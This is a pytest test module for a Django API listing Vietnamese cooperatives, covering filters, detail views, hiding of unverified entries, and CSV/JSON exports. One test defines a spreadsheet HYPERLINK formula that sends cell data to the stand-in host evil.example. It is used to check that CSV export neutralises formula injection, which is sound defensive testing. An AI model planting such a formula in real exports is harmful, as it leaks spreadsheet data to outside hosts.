import csv
import io
import json

import pytest

from market.models import Province, Ward
from tests.factories import market as f

pytestmark = pytest.mark.django_db
API = "/api/v1"


@pytest.fixture
def directory():
    dak_lak = Province.objects.get(code=66)
    coffee = f.CooperativeFactory(
        verified=True,
        legal_name="Hợp tác xã Cà phê Ea Tul",
        slug="htx-ca-phe-ea-tul",
        province=dak_lak,
        sector="CROPS",
        is_agricultural=True,
        member_count=120,
        year_founded=2012,
        ward=Ward.objects.filter(province=dak_lak).order_by("code")[0],
    )
    craft = f.CooperativeFactory(
        verified=True,
        legal_name="Tổ hợp tác Mây tre đan Phú Vinh",
        kind="THT",
        sector="HANDICRAFT",
        is_agricultural=False,
        ward=None,
    )
    union = f.CooperativeFactory(
        verified=True,
        legal_name="Liên hiệp HTX Điều Bình Phước",
        kind="LHHTX",
        sector="PROCESSING",
        is_agricultural=False,
    )
    hidden = [
        f.CooperativeFactory(status=s, legal_name=f"HTX ẩn {s}")
        for s in ("DRAFT", "SUBMITTED", "REJECTED", "SUSPENDED")
    ]
    return {"coffee": coffee, "craft": craft, "union": union, "hidden": hidden}


def ids(response):
    return sorted(c["id"] for c in response.json()["results"])


@pytest.mark.parametrize(
    "query, expected",
    [
        ("", ["coffee", "craft", "union"]),
        ("?province=66", ["coffee"]),
        ("?kind=THT", ["craft"]),
        ("?sector=PROCESSING", ["union"]),
        ("?is_agricultural=true", ["coffee"]),
        ("?is_agricultural=false", ["craft", "union"]),
        ("?q=mây tre", ["craft"]),
        ("?q=EA TUL", ["coffee"]),
        ("?province=66&kind=THT", []),
    ],
)
def test_directory_filters_show_verified_only(query, expected, directory, client):
    response = client.get(f"{API}/cooperatives/{query}")

    assert response.status_code == 200
    assert ids(response) == sorted(directory[name].pk for name in expected)


@pytest.mark.parametrize("query", ["?province=abc", "?kind=BANK", "?sector=MINING"])
def test_directory_bad_filter_is_400(query, client, directory):
    response = client.get(f"{API}/cooperatives/{query}")

    assert response.status_code == 400
    assert response.json()["code"] == "validation_failed"


def test_detail_by_id_and_slug(directory, client):
    coffee = directory["coffee"]

    by_id = client.get(f"{API}/cooperatives/{coffee.pk}/").json()
    by_slug = client.get(f"{API}/cooperatives/htx-ca-phe-ea-tul/").json()

    assert by_id == by_slug
    assert (by_id["legal_name"], by_id["province"], by_id["member_count"]) == (
        "Hợp tác xã Cà phê Ea Tul",
        {"code": 66, "name": "Đắk Lắk"},
        120,
    )
    assert "bank_account" not in by_id and "status_reason" not in by_id


@pytest.mark.parametrize("status_index", range(4))
def test_unverified_detail_is_404_for_public(status_index, directory, client):
    coop = directory["hidden"][status_index]

    assert client.get(f"{API}/cooperatives/{coop.pk}/").status_code == 404
    assert client.get(f"{API}/cooperatives/{coop.slug}/").status_code == 404


def test_export_csv_has_bom_and_vietnamese(directory, client):
    response = client.get(f"{API}/cooperatives/export.csv")

    raw = response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert [int(r["id"]) for r in rows] == sorted(
        directory[n].pk for n in ("coffee", "craft", "union")
    )
    coffee = next(r for r in rows if r["slug"] == "htx-ca-phe-ea-tul")
    c = directory["coffee"]
    assert {
        k: coffee[k]
        for k in (
            "legal_name",
            "registration_number",
            "tax_code",
            "province_code",
            "province_name",
            "ward_code",
            "ward_name",
            "kind",
            "sector",
            "member_count",
            "year_founded",
        )
    } == {
        "legal_name": "Hợp tác xã Cà phê Ea Tul",
        "registration_number": c.registration_number,
        "tax_code": c.tax_code,
        "province_code": "66",
        "province_name": "Đắk Lắk",
        "ward_code": str(c.ward_id),
        "ward_name": c.ward.name,
        "kind": "HTX",
        "sector": "CROPS",
        "member_count": "120",
        "year_founded": "2012",
    }


def test_export_json_matches_csv(directory, client):
    body = json.loads(client.get(f"{API}/cooperatives/export.json").content)
    rows = list(
        csv.DictReader(
            io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))
        )
    )

    assert body["count"] == 3
    assert [c["id"] for c in body["cooperatives"]] == [int(r["id"]) for r in rows]
    craft = next(c for c in body["cooperatives"] if c["kind"] == "THT")
    assert (craft["ward_code"], craft["ward_name"], craft["is_agricultural"]) == (None, None, False)


def test_reference_data(client):
    provinces = client.get(f"{API}/provinces/").json()
    wards = client.get(f"{API}/provinces/20/wards/").json()
    resolved = client.get(f"{API}/provinces/resolve/", {"q": "Tỉnh Bắc Giang"}).json()

    assert len(provinces) == 34
    assert len(wards) == Ward.objects.filter(province_id=20).count() > 0
    assert (resolved["code"], resolved["name"]) == (24, "Bắc Ninh")
    assert client.get(f"{API}/provinces/99/wards/").status_code == 404
    assert client.get(f"{API}/provinces/resolve/", {"q": "Gotham"}).status_code == 404
    assert client.get(f"{API}/provinces/resolve/").json()["code"] == "missing_query"


def test_schema_lists_market_endpoints_without_warnings(client):
    response = client.get("/api/schema/", HTTP_ACCEPT="application/json")

    paths = response.json()["paths"]
    for path in (
        "/api/v1/auth/signup/",
        "/api/v1/auth/login/",
        "/api/v1/cooperatives/",
        "/api/v1/cooperatives/export.csv",
        "/api/v1/cooperatives/{id}/verify/",
        "/api/v1/admin/verification-queue/",
        "/api/v1/cooperatives/{id}/documents/{document_id}/download/",
    ):
        assert path in paths


def test_export_command_writes_same_rows_as_api(directory, client, tmp_path):
    from django.core.management import call_command

    target = tmp_path / "htx.csv"

    call_command("cooperatives_export", "--format", "csv", "--output", str(target))

    api = client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8")
    assert target.read_bytes().startswith(b"\xef\xbb\xbf")
    assert target.read_bytes().decode("utf-8") == api


def test_schema_generation_has_no_warnings_for_market_views():
    from drf_spectacular.drainage import GENERATOR_STATS
    from drf_spectacular.generators import SchemaGenerator

    GENERATOR_STATS.reset()
    GENERATOR_STATS.enable_trace_lineno()

    SchemaGenerator().get_schema(request=None, public=True)

    mine = [
        m
        for m in list(GENERATOR_STATS._warn_cache) + list(GENERATOR_STATS._error_cache)
        if "/market/" in m
    ]
    GENERATOR_STATS.reset()
    assert mine == []


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def test_csv_export_neutralises_formulas_but_json_keeps_values(client, tmp_path):
    from django.core.management import call_command

    coop = f.CooperativeFactory(
        verified=True,
        legal_name=FORMULA,
        trading_name="+84 912",
        address="-1+1",
        representative="x",
    )
    f.CooperativeFactory(verified=True, legal_name="@SUM(1)", trading_name="\tTab", address="\rCR")
    target = tmp_path / "htx.csv"

    rows = list(
        csv.DictReader(
            io.StringIO(client.get(f"{API}/cooperatives/export.csv").content.decode("utf-8-sig"))
        )
    )
    call_command("cooperatives_export", "--format", "csv", "--output", str(target))
    body = json.loads(client.get(f"{API}/cooperatives/export.json").content)

    assert [(r["legal_name"], r["trading_name"], r["address"]) for r in rows] == [
        ("'" + FORMULA, "'+84 912", "'-1+1"),
        ("'@SUM(1)", "'\tTab", "'\rCR"),
    ]
    assert next(r for r in rows if r["id"] == str(coop.pk))["province_name"] == "Lạng Sơn"
    file_rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
    assert file_rows == rows
    assert [(c["legal_name"], c["trading_name"], c["address"]) for c in body["cooperatives"]] == [
        (FORMULA, "+84 912", "-1+1"),
        ("@SUM(1)", "\tTab", "\rCR"),
    ]
